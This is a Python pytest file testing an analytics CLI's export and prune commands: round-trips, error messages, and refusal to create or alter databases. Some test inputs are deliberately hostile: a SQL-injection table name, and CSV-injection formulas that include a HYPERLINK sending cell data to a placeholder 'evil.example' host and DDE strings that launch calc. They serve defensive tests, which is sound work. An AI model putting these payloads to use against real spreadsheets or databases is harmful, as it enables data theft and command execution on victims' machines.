"""`analytics export` and `analytics prune`: round-trips, whitelisted tables, no database
ever created, one-line errors."""

from __future__ import annotations

import csv
import random
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from analytics.cli import main
from analytics.export import EXPORT_TABLES
from analytics.warehouse import Warehouse
from tests.warehouse_support import events_for_days, fixed_clock, table_rows, write_events

DAY = date(2026, 11, 1)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    spool = tmp_path / "spool"
    write_events(spool, events_for_days(random.Random(1), [DAY, date(2026, 11, 2)], per_day=80))
    path = tmp_path / "w.duckdb"
    Warehouse(path, clock=fixed_clock(datetime(2026, 11, 3, tzinfo=UTC))).run(spool)
    return path


@pytest.mark.parametrize("table", EXPORT_TABLES)
def test_parquet_export_round_trips(
    db: Path, tmp_path: Path, table: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / f"{table}.parquet"
    argv = ["export", "--db", str(db), "--table", table, "--format", "parquet"]
    assert main([*argv, "--output", str(out)]) == 0
    rows = set(map(tuple, (r.values() for r in pq.read_table(out).to_pylist())))
    assert rows == table_rows(db, table)
    assert capsys.readouterr().out == f"exported {len(rows)} rows of {table} to {out}\n"


@pytest.mark.parametrize("table", ["daily_totals", "daily_referrers", "daily_campaigns"])
def test_csv_export_has_a_header_and_every_row(db: Path, tmp_path: Path, table: str) -> None:
    out = tmp_path / f"{table}.csv"
    assert (
        main(["export", "--db", str(db), "--table", table, "--format", "csv", "--output", str(out)])
        == 0
    )
    with out.open() as handle:
        rows = list(csv.DictReader(handle))
    expected = table_rows(db, table)
    assert len(rows) == len(expected)
    assert list(rows[0])[:2] == ["day", "site"]
    assert sum(int(r["pageviews"]) for r in rows) == sum(
        r[-2 if table != "daily_totals" else 2] for r in expected
    )


@pytest.mark.parametrize(
    ("table", "fmt", "output", "message"),
    [
        ("ingested_segments", "csv", "OUT", "unknown table 'ingested_segments'"),
        ("events; DROP TABLE events", "csv", "OUT", "unknown table"),
        ("daily_totals", "xlsx", "OUT", "unknown format 'xlsx'"),
        ("daily_totals", "csv", "NOFOLDER", "/no' does not exist"),
        ("daily_totals", "csv", "FOLDER", "is a folder"),
    ],
)
def test_export_errors_are_one_line(
    db: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    table: str,
    fmt: str,
    output: str,
    message: str,
) -> None:
    outputs = {"OUT": tmp_path / "o.csv", "NOFOLDER": tmp_path / "no" / "o.csv", "FOLDER": tmp_path}
    argv = [
        "export",
        "--db",
        str(db),
        "--table",
        table,
        "--format",
        fmt,
        "--output",
        str(outputs[output]),
    ]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("analytics: error: ")
    assert err.count("\n") == 1
    assert message in err
    assert table_rows(db, "events")  # nothing dropped


@pytest.mark.parametrize(
    "command",
    [
        ["export", "--table", "events", "--format", "csv", "--output", "OUT"],
        ["prune", "--raw-days", "3"],
    ],
)
def test_export_and_prune_never_create_a_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    missing = tmp_path / "missing.duckdb"
    argv = [str(tmp_path / "o.csv") if a == "OUT" else a for a in command]
    assert main([*argv, "--db", str(missing)]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert not missing.exists()


def test_prune_keeps_rollups(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rollup = table_rows(db, "daily_pages")
    assert main(["prune", "--db", str(db), "--raw-days", "1"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("pruned 160 raw events")
    assert table_rows(db, "events") == set()
    assert table_rows(db, "daily_pages") == rollup


def test_prune_rejects_a_bad_number(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["prune", "--db", str(db), "--raw-days", "-3"]) == 2
    assert "at least 1" in capsys.readouterr().err


# Visitor-controlled text that a spreadsheet would run as a formula (CSV injection, OWASP).
HOSTILE: dict[str, Any] = {
    "utm_source": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "utm_medium": "+cmd|' /C calc'!A0",
    "utm_campaign": "-2+3",
    "referrer_source": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_export_defuses_formulas_and_parquet_keeps_values_exact(tmp_path: Path) -> None:
    rng = random.Random(7)
    hostile = [e._replace(**HOSTILE) for e in events_for_days(rng, [DAY], per_day=30)]
    hostile += [e._replace(utm_source="\tx", utm_medium="\rx") for e in hostile[:3]]
    spool = tmp_path / "spool"
    write_events(spool, hostile + events_for_days(rng, [DAY], per_day=30))
    db = tmp_path / "w.duckdb"
    Warehouse(db, clock=fixed_clock(datetime(2026, 11, 3, tzinfo=UTC))).run(spool)

    for table in ("events", "daily_campaigns"):
        out = tmp_path / f"{table}.csv"
        args = ["export", "--db", str(db), "--table", table, "--format", "csv"]
        assert main([*args, "--output", str(out)]) == 0
        with out.open(newline="") as handle:
            rows = list(csv.DictReader(handle))
        cells = [value for row in rows for value in row.values()]
        for column in ("utm_source", "utm_medium", "utm_campaign"):
            assert "'" + HOSTILE[column] in {row[column] for row in rows}
        # No text cell starts like a formula; numbers (counts, ids) are still plain numbers.
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
        if table == "daily_campaigns":
            assert all(row["pageviews"].isdigit() for row in rows)
        else:
            assert "'" + HOSTILE["referrer_source"] in {row["referrer_source"] for row in rows}
            assert any(row["visitor_id"].startswith("-") for row in rows)  # negative ids kept

    out = tmp_path / "events.parquet"
    args = ["export", "--db", str(db), "--table", "events", "--format", "parquet"]
    assert main([*args, "--output", str(out)]) == 0
    exact = {row["utm_source"] for row in pq.read_table(out).to_pylist()}
    assert HOSTILE["utm_source"] in exact


def test_prune_refuses_a_duckdb_file_that_is_not_a_warehouse(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import duckdb

    other = tmp_path / "someone-elses.duckdb"
    with duckdb.connect(str(other)) as con:
        con.execute("CREATE TABLE orders AS SELECT 1 AS id")
    assert main(["prune", "--db", str(other), "--raw-days", "30"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "not a cookiewall warehouse" in err
    with duckdb.connect(str(other), read_only=True) as con:
        tables = {row[0] for row in con.execute("SHOW TABLES").fetchall()}
    assert tables == {"orders"}  # nothing planted in it
